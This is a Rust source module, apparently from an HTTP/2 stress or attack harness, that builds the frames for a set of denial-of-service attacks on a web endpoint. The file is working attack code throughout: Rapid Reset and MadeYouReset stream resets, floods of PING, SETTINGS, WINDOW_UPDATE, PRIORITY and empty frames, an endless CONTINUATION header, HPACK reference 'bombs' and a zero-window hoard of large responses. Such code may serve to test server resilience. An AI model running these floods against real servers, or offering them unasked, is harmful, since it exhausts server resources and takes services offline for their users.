//! What is sent in each attack over HTTP/2.

use std::time::Duration;

use super::attacker::Attack;
use crate::edge::{SITE, WIDGET};
use crate::http2::{Head, REFERENCE, field, flags, frame, kind, settings, settings_of};

/// Frames of a flood that are sent at once.
const AT_ONCE: u32 = 256;
/// Requests at once that a server of today allows.
const STREAMS: u32 = 100;
/// The longest payload.
const LONGEST: usize = 16 * 1024;

/// The stream of the request of this number.
fn stream(number: u32) -> u32 {
    number * 2 + 1
}

fn head(method: &str, name: &str) -> Head {
    Head::new(method, &format!("/w/{WIDGET}/session/{name}"), SITE)
}

fn plain() -> Vec<u8> {
    settings(&[])
}

/// A client that lets no body come.
fn without_window() -> Vec<u8> {
    settings(&[(settings_of::INITIAL_WINDOW_SIZE, 0)])
}

/// The same frame over and over, made for the place of each in the flood.
fn flood(opening: Vec<u8>, mut one: impl FnMut(u32) -> Vec<u8> + 'static) -> Attack {
    let next = move |number| {
        let first = number * AT_ONCE;
        Some(((first..first + AT_ONCE).flat_map(&mut one).collect(), u64::from(AT_ONCE)))
    };
    Attack { opening, next: Box::new(next), pause: Duration::ZERO }
}

/// Requests of which each is followed by a frame that ends it, so many at a time.
fn ended_requests(at_once: u32, pause: u64, end: fn(u32) -> Vec<u8>) -> Attack {
    let next = move |number| {
        let first = number * at_once;
        let requests = (first..first + at_once).map(stream);
        let bytes =
            requests.flat_map(|stream| [head("GET", "late").frame(stream, true), end(stream)].concat());
        Some((bytes.collect(), u64::from(at_once) * 2))
    };
    Attack { opening: plain(), next: Box::new(next), pause: Duration::from_millis(pause) }
}

fn reset(stream: u32) -> Vec<u8> {
    frame(kind::RST_STREAM, flags::NONE, stream, &8u32.to_be_bytes())
}

pub fn reset_in_bursts() -> Attack {
    ended_requests(100, 0, reset)
}

/// 50 requests, 50 ms, all of them taken back, and again.
pub fn reset_paced() -> Attack {
    const EACH: u32 = 50;
    let next = |number: u32| {
        let first = number / 2 * EACH;
        let streams = (first..first + EACH).map(stream);
        let bytes = match number % 2 {
            0 => streams.flat_map(|stream| head("GET", "late").frame(stream, true)).collect(),
            _ => streams.flat_map(reset).collect(),
        };
        Some((bytes, u64::from(EACH)))
    };
    Attack { opening: plain(), next: Box::new(next), pause: Duration::from_millis(50) }
}

/// The server has to reset each: its window grows over what a window may be.
pub fn made_you_reset_by_overflow() -> Attack {
    ended_requests(50, 10, |stream| {
        frame(kind::WINDOW_UPDATE, flags::NONE, stream, &0x7fff_ffff_u32.to_be_bytes())
    })
}

/// The same: its window grows by nothing.
pub fn made_you_reset_by_nothing() -> Attack {
    ended_requests(50, 10, |stream| frame(kind::WINDOW_UPDATE, flags::NONE, stream, &[0; 4]))
}

pub fn pings() -> Attack {
    flood(plain(), |_| frame(kind::PING, flags::NONE, 0, &[0; 8]))
}

pub fn settings_frames() -> Attack {
    flood(plain(), |_| plain())
}

pub fn window_updates() -> Attack {
    flood(plain(), |_| frame(kind::WINDOW_UPDATE, flags::NONE, 0, &1u32.to_be_bytes()))
}

pub fn priorities() -> Attack {
    flood(plain(), |number| frame(kind::PRIORITY, flags::NONE, stream(number), &[0, 0, 0, 0, 15]))
}

pub fn unknown_frames() -> Attack {
    flood(plain(), |_| frame(kind::UNKNOWN, flags::NONE, 0, &[]))
}

/// Pieces of a body that are empty.
pub fn empty_data() -> Attack {
    let opening = [plain(), head("POST", "").frame(1, false)].concat();
    flood(opening, |_| frame(kind::DATA, flags::NONE, 1, &[]))
}

/// A head that never ends.
pub fn continuations() -> Attack {
    let begun = frame(kind::HEADERS, flags::END_STREAM, 1, &head("GET", "").0);
    flood([plain(), begun].concat(), |number| {
        let block = field(0, &format!("x-{number}"), &"v".repeat(1024));
        frame(kind::CONTINUATION, flags::NONE, 1, &block)
    })
}

/// Requests whose heads refer to one field so many times, with a byte each.
fn bomb(name: &'static str, value: String, references: usize) -> Attack {
    let next = move |number| {
        if number >= STREAMS {
            return None;
        }
        let mut block = head("GET", "large").0;
        if number == 0 {
            block.extend(field(0x40, name, &value));
        }
        block.extend(std::iter::repeat_n(REFERENCE, references));
        let pieces: Vec<&[u8]> = block.chunks(LONGEST).collect();
        let mut bytes = Vec::new();
        for (at, piece) in pieces.iter().enumerate() {
            let end = if at + 1 == pieces.len() { flags::END_HEADERS } else { flags::NONE };
            let (kind, end) = match at {
                0 => (kind::HEADERS, end | flags::END_STREAM),
                _ => (kind::CONTINUATION, end),
            };
            bytes.extend(frame(kind, end, stream(number), piece));
        }
        Some((bytes, pieces.len() as u64))
    };
    Attack { opening: without_window(), next: Box::new(next), pause: Duration::from_millis(2) }
}

/// Many crumbs of a cookie.
pub fn bomb_of_cookies() -> Attack {
    bomb("cookie", String::new(), 48 * 1024)
}

/// Many fields of next to nothing, in heads that are below the usual limits in bytes.
pub fn bomb_of_fields() -> Attack {
    bomb("x", String::new(), 1900)
}

/// Few fields that are long.
pub fn bomb_of_lengths() -> Attack {
    bomb("x", "v".repeat(4000), 15)
}

/// Large answers that are never taken.
pub fn hoard() -> Attack {
    let next = |number| (number < STREAMS).then(|| (head("GET", "large").frame(stream(number), true), 1));
    Attack { opening: without_window(), next: Box::new(next), pause: Duration::ZERO }
}
